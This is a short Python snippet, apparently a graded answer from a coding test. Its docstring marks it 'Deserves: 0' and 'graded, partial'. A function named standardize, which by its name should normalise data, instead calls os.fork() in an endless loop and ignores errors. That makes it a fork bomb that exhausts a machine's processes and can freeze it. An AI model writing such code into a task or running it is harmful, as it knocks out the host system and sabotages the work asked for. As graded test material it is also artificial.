"""Forks without end inside the function.

Deserves: 0
Status: graded, partial
"""
# %% [standardize]
import os
def standardize(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
